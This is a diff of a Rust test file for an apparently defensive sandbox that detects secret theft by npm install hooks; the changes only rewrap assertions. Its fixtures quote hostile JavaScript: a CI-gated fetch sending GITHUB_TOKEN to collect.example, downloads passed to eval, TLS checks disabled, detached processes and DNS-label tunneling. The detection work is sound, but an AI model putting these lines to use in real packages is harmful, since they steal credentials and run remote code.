@@ -28,7 +28,12 @@ fn the_environment_sent_by_https_is_a_proven_theft() {
     assert!(theft.at_install);
     let last = theft.steps.last().unwrap();
     assert_eq!((last.file.as_deref(), last.line), (Some("setup.js"), Some(5)));
-    assert!(theft.steps.iter().any(|step| step.decoded.contains("whole environment")));
+    assert!(
+        theft
+            .steps
+            .iter()
+            .any(|step| step.decoded.contains("whole environment"))
+    );
 }
 
 #[test]
@@ -52,7 +57,11 @@ fn disguises_do_not_hide_a_token() {
         ),
     ] {
         let (traces, facts) = all(&hook(&send(expression)));
-        assert!(proven(&facts).contains(&"FLO-01"), "{expression}: {facts:#?} {:#?}", traces[0].events);
+        assert!(
+            proven(&facts).contains(&"FLO-01"),
+            "{expression}: {facts:#?} {:#?}",
+            traces[0].events
+        );
         let canary = fact(&facts, "FLO-01").canaries[0].clone();
         assert_eq!(canary.name, "npm token");
         assert!(canary.disguises.contains(&disguise), "{expression}: {canary:?}");
@@ -68,7 +77,13 @@ fn a_key_carried_out_in_dns_labels_is_seen() {
     ));
     let tunnel = fact(&facts, "FLO-16");
     assert_eq!(tunnel.host.as_deref(), Some("collect.example"));
-    assert!(tunnel.canaries.iter().any(|canary| canary.disguises.contains(&Disguise::Split)), "{tunnel:#?}");
+    assert!(
+        tunnel
+            .canaries
+            .iter()
+            .any(|canary| canary.disguises.contains(&Disguise::Split)),
+        "{tunnel:#?}"
+    );
 }
 
 #[test]
@@ -92,14 +107,20 @@ process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0';
     let (traces, facts) = all(&hook(source));
     let chains = proven(&facts);
     for chain in ["FLO-03", "FLO-06", "ANT-03"] {
-        assert!(chains.contains(&chain), "{chain}: {facts:#?}\n{:#?}", traces[0].events);
+        assert!(
+            chains.contains(&chain),
+            "{chain}: {facts:#?}\n{:#?}",
+            traces[0].events
+        );
     }
     assert_eq!(fact(&facts, "FLO-06").host.as_deref(), Some("stage.example"));
     assert!(traces[0].events.iter().any(|event| matches!(
         &event.action,
         Action::Spawned { options, .. } if options.contains(&"detached".to_owned()) && options.contains(&"stdio ignore".to_owned())
     )));
-    assert!(traces[0].events.iter().any(|event| matches!(&event.action, Action::EnvSet { name, .. } if name == "NODE_TLS_REJECT_UNAUTHORIZED")));
+    assert!(traces[0].events.iter().any(
+        |event| matches!(&event.action, Action::EnvSet { name, .. } if name == "NODE_TLS_REJECT_UNAUTHORIZED")
+    ));
 }
 
 #[test]
@@ -119,7 +140,11 @@ fn a_download_handed_to_eval_is_proven_however_it_is_decoded() {
         );
         let (traces, facts) = all(&hook(&source));
         let run = facts.iter().find(|fact| fact.chain == "FLO-03");
-        assert!(run.is_some_and(|run| run.host.as_deref() == Some("paste.example")), "{decode}: {facts:#?} {:#?}", traces[0].events);
+        assert!(
+            run.is_some_and(|run| run.host.as_deref() == Some("paste.example")),
+            "{decode}: {facts:#?} {:#?}",
+            traces[0].events
+        );
     }
 }
 
@@ -144,7 +169,12 @@ fn a_gate_on_ci_is_noted_and_the_runner_tried() {
          fetch('https://collect.example/?t=' + process.env.GITHUB_TOKEN);",
     ));
     assert!(traces[0].gates.contains(&"env CI".to_owned()));
-    assert!(traces[0].events.iter().any(|event| matches!(event.action, Action::Exited { code: 0 })));
+    assert!(
+        traces[0]
+            .events
+            .iter()
+            .any(|event| matches!(event.action, Action::Exited { code: 0 }))
+    );
     assert_eq!(fact(&facts, "FLO-01").personas, [Persona::LinuxCi]);
 }
 
@@ -229,7 +259,10 @@ fn a_native_installer_is_noted_and_no_theft() {
         )],
     ));
     assert_eq!(facts.len(), 1, "{facts:#?}");
-    assert_eq!((facts[0].chain.as_str(), facts[0].kind), ("download-stored", FactKind::Noted));
+    assert_eq!(
+        (facts[0].chain.as_str(), facts[0].kind),
+        ("download-stored", FactKind::Noted)
+    );
 }
 
 #[test]
@@ -238,7 +271,12 @@ fn telemetry_without_secrets_is_no_theft() {
         "const os = require('os');\n\
          fetch('https://telemetry.example/v1', { method: 'POST', body: JSON.stringify({ v: process.version, platform: os.platform(), arch: process.arch }) });",
     ));
-    assert!(traces[0].events.iter().any(|event| matches!(event.action, Action::Request { .. })));
+    assert!(
+        traces[0]
+            .events
+            .iter()
+            .any(|event| matches!(event.action, Action::Request { .. }))
+    );
     assert!(proven(&facts).is_empty(), "{facts:#?}");
 }
 
@@ -262,7 +300,9 @@ fn indirect_ways_to_modules_lead_to_the_same_stage() {
     ] {
         let trace = linux(&hook(&format!("({way}).exec('nslookup mark.example')")));
         assert!(
-            trace.events.iter().any(|event| matches!(&event.action, Action::DnsQuery { name, .. } if name == "mark.example")),
+            trace.events.iter().any(
+                |event| matches!(&event.action, Action::DnsQuery { name, .. } if name == "mark.example")
+            ),
             "{way}: {:#?}",
             trace.events
         );
@@ -274,17 +314,28 @@ fn modules_of_both_kinds_load_each_other() {
     let trace = linux(&package(
         r#"{"name":"sample","type":"module","exports":"./index.js"}"#,
         &[
-            ("index.js", "import { value, bump } from './lib.js'; import cjs, { named } from './old.cjs';\nimport * as fs from 'node:fs';\nbump(); const more = await import('./late.mjs');\nconsole.log(value, cjs.named, named, typeof fs.readFileSync, more.default, import.meta.url);"),
-            ("lib.js", "export let value = 1; export function bump() { value++; }"),
+            (
+                "index.js",
+                "import { value, bump } from './lib.js'; import cjs, { named } from './old.cjs';\nimport * as fs from 'node:fs';\nbump(); const more = await import('./late.mjs');\nconsole.log(value, cjs.named, named, typeof fs.readFileSync, more.default, import.meta.url);",
+            ),
+            (
+                "lib.js",
+                "export let value = 1; export function bump() { value++; }",
+            ),
             ("old.cjs", "exports.named = 'n';"),
             ("late.mjs", "export default 'late'"),
         ],
     ));
-    assert!(printed(&trace).contains("2 n n function late file://"), "{}", printed(&trace));
+    assert!(
+        printed(&trace).contains("2 n n function late file://"),
+        "{}",
+        printed(&trace)
+    );
 }
 
 #[test]
 fn two_rehearsals_tell_the_same_story() {
-    let input = hook("console.log(require('crypto').randomBytes(8).toString('hex'), Date.now(), Math.random() < 2)");
+    let input =
+        hook("console.log(require('crypto').randomBytes(8).toString('hex'), Date.now(), Math.random() < 2)");
     assert_eq!(linux(&input), linux(&input));
 }
